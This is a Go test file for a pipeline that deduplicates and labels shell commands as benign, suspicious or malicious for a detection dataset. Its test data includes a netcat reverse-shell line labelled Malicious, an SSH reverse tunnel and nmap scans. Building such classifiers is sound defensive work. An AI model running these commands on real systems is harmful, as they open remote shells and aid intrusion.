package dataset

import (
	"os"
	"path/filepath"
	"testing"
)

func TestTemplate(t *testing.T) {
	tests := []struct{ a, b string }{
		{"ssh -R 4444:localhost:22 deploy@10.0.0.5", "ssh -R 8080:localhost:80 audit@192.168.1.9"},
		{"/usr/bin/nmap -sV 10.0.0.1", "nmap -sV 192.168.0.7"},
		{"sudo find / -name x", "find / -name y"},
	}
	for _, tt := range tests {
		if Template(tt.a) != Template(tt.b) {
			t.Errorf("%q → %q but %q → %q: want one template", tt.a, Template(tt.a), tt.b, Template(tt.b))
		}
	}
	if Template("ls -la") == Template("rm -rf") {
		t.Error("different commands share a template")
	}
}

func TestDedupe(t *testing.T) {
	rows := []Example{
		{Command: "whoami", Class: Benign, Source: "tldr"},
		{Command: "  WHOAMI ", Class: Malicious, Source: "atomic-red-team", Technique: "T1033"},
		{Command: "ls", Class: Benign},
		{Command: "ls", Class: Benign},
		{Command: "cat x", Class: Unlabelled, Technique: "T1005"},
		{Command: "cat x", Class: Benign},
	}
	got := Dedupe(rows)
	if len(got) != 3 {
		t.Fatalf("%d rows, want 3: %+v", len(got), got)
	}
	if got[0].Class != Suspicious || got[0].Policy != PolicyConflict || got[0].Technique != "T1033" {
		t.Errorf("conflicting labels: %+v, want Suspicious with the technique kept", got[0])
	}
	if got[2].Class != Benign || got[2].Technique != "T1005" {
		t.Errorf("unlabelled then labelled: %+v", got[2])
	}
}

func TestClassifyPolicy(t *testing.T) {
	o := Options{DiscoveryOnly: func(id string) bool { return id == "T1033" }}
	tests := []struct {
		r      record
		class  Class
		policy string
	}{
		{record{Source: "tldr", Page: "ls"}, Benign, PolicyTldr},
		{record{Source: "tldr", Page: "nmap", DualUse: true}, Suspicious, PolicyTldrDualUse},
		{record{Source: "nl2bash", Command: "find ."}, Benign, PolicyNL2Bash},
		{record{Source: "atomic-red-team", Technique: "T1033"}, Suspicious, PolicyAtomicDiscovery},
		{record{Source: "atomic-red-team", Technique: "T1033.001"}, Suspicious, PolicyAtomicDiscovery},
		{record{Source: "atomic-red-team", Technique: "T1003.001"}, Malicious, PolicyAtomic},
		{record{Source: "gtfobins", Label: "suspicious_inherit"}, Suspicious, PolicyGTFOInherit},
		{record{Source: "gtfobins", Label: "malicious"}, Malicious, PolicyGTFOBins},
		{record{Source: "lolbas"}, Malicious, PolicyLOLBAS},
		{record{Source: "unit42-psencmds"}, Malicious, PolicyUnit42},
	}
	for _, tt := range tests {
		c, pol, group := o.classify(tt.r)
		if c != tt.class || pol != tt.policy || group == "" {
			t.Errorf("%+v: got %s/%s/%q, want %s/%s", tt.r, c, pol, group, tt.class, tt.policy)
		}
	}
}

func TestParseLabel(t *testing.T) {
	for in, want := range map[string]Class{"Benign": Benign, "malicious": Malicious, "Context_Dependent": Suspicious, " suspicious ": Suspicious} {
		if c, ok := ParseLabel(in); !ok || c != want {
			t.Errorf("ParseLabel(%q) = %v, %v", in, c, ok)
		}
	}
	if _, ok := ParseLabel("evil"); ok {
		t.Error("unknown label accepted")
	}
}

func TestReadLabelled(t *testing.T) {
	dir := t.TempDir()
	jl := filepath.Join(dir, "x.jsonl")
	os.WriteFile(jl, []byte(`{"command":"ls","label":"benign"}
{"command":"nc -e /bin/sh 1.2.3.4 4","label":"Malicious","technique":"T1059.004"}
{"command":"whoami"}
`), 0o644)
	rows, err := ReadLabelled(jl)
	if err != nil || len(rows) != 3 || rows[1].Technique != "T1059.004" || rows[2].Class != Unlabelled {
		t.Fatalf("jsonl: %+v, %v", rows, err)
	}
	csv := filepath.Join(dir, "x.csv")
	os.WriteFile(csv, []byte("command,label,mitre_id\r\n\"echo \"\"a,b\"\"\",Context_Dependent,T1082\r\n"), 0o644)
	rows, err = ReadLabelled(csv)
	if err != nil || len(rows) != 1 || rows[0].Command != `echo "a,b"` || rows[0].Class != Suspicious || rows[0].Technique != "T1082" {
		t.Fatalf("csv: %+v, %v", rows, err)
	}
	bad := filepath.Join(dir, "bad.jsonl")
	os.WriteFile(bad, []byte(`{"command":"ls","label":"evil"}`+"\n"), 0o644)
	if _, err := ReadLabelled(bad); err == nil {
		t.Error("unknown label accepted")
	}
}
